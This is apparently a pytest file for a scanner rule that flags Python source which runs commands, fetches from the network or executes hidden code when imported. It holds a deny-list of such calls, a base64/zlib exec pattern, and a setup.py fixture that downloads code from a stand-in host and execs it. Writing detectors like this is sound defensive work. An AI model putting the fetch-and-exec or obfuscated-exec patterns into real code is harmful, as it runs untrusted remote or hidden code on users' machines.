"""What Python source does as soon as it is imported, and what it hides."""

import pytest

from modelairlock.profiles import Profiles
from modelairlock.records import source_uses
from modelairlock.records.facts import Irregularity, SourceUse, Value
from modelairlock.records.finding import Severity
from modelairlock.records.scan import Verdict
from modelairlock.rules.source_harmful import RULE
from tests.build.repositories import CONFIGURATION, MODELING
from tests.rules.judging import SPAN, checked, finding_of, judged, text


def call(name: str, *arguments: Value, at_import: bool = True) -> SourceUse:
    return SourceUse(span=SPAN, kind="call", name=name, at_import=at_import, arguments=arguments)


@pytest.mark.parametrize(
    "name", ["os.system", "subprocess.check_output", "requests.get", "builtins.exec", "ctypes.CDLL"]
)
def test_hit(name: str) -> None:
    finding = finding_of(RULE, call(name, text("x")))
    assert finding.severity is Severity.MEDIUM
    assert finding.message.startswith(f"importing it may call {name}('x'), which ")


def test_hidden_code_is_worse_wherever_it_stands() -> None:
    decoded = Value(kind="call", parts=(Value(kind="global", module="base64", text="b64decode"), text("eA==")))
    nested = Value(kind="call", parts=(Value(kind="global", module="zlib", text="decompress"), decoded))
    for at_import in (True, False):
        finding = finding_of(RULE, call("builtins.exec", nested, at_import=at_import))
        assert finding.severity is Severity.HIGH
        assert "unpack text and run it" in finding.message


@pytest.mark.parametrize(
    "use",
    [
        call("os.system", text("x"), at_import=False),
        call("os.path.join", text("x")),
        call("os.makedirs", text("x")),
        call("os.environ.get", text("x")),
        call("builtins.open", text("x")),
        call("asyncio.Lock"),
        call("urllib.parse.quote", text("x")),
        call("builtins.getattr()", Value(kind="global", module="torch", text="nn"), Value(kind="unknown")),
        call("torch.load", text("x")),
        SourceUse(span=SPAN, kind="import", name="subprocess", at_import=True),
    ],
)
def test_miss(use: SourceUse) -> None:
    assert checked(RULE, use) == []


@pytest.mark.parametrize(
    "name",
    [
        "marshal.dumps", "pip._internal.utils.misc.enum", "pip._vendor.tenacity.stop_after_delay",
        "requests.utils.default_user_agent", "subprocess.STARTUPINFO", "subprocess.__file__",
    ],
)  # fmt: skip
def test_a_name_of_such_a_module_that_does_nothing_outside(name: str) -> None:
    assert checked(RULE, call(name)) == []


def test_pip_installs_when_its_main_is_called() -> None:
    finding_of(RULE, call("pip.main", text("install")))
    finding_of(RULE, call("pip._internal.cli.main.main", text("install")))


def test_a_name_that_is_computed_counts_where_it_reaches_far() -> None:
    finding_of(RULE, call("builtins.getattr()", Value(kind="global", module="", text="os"), Value(kind="unknown")))
    finding_of(RULE, call("builtins.__import__()", Value(kind="unknown")))


def test_an_odd_codec() -> None:
    fact = Irregularity(span=SPAN, kind="source-codec-odd", detail="it says that it is written in utf_7")
    assert finding_of(RULE, fact).severity is Severity.MEDIUM


@pytest.mark.parametrize("source", [MODELING, CONFIGURATION])
def test_honest_code_is_held_and_not_flagged(source: bytes) -> None:
    assert judged(source, "modeling_own.py").verdict is Verdict.INCOMPLETE


def test_the_whole_way() -> None:
    subject = judged(b"import urllib.request as r\nexec(r.urlopen('http://example.invalid').read())\n", "setup.py")
    assert subject.verdict is Verdict.FLAGGED
    assert {finding.message.split("(")[0] for finding in subject.findings} == {
        "importing it may call builtins.exec",
        "importing it may call urllib.request.urlopen",
    }


def test_every_name_worth_telling_is_known_to_do_harm() -> None:
    """What the deny-list does not know has no words to explain it by."""
    names = [*source_uses._NAMES, *source_uses._COMPUTED, *(f"os.{name}" for name in source_uses._OS)]
    names += [f"{module}.anything" for module in source_uses._MODULES]
    for name in names:
        module, _, qualname = name.removesuffix("()").partition(".")
        assert Profiles.bundled().harm(module, qualname), name
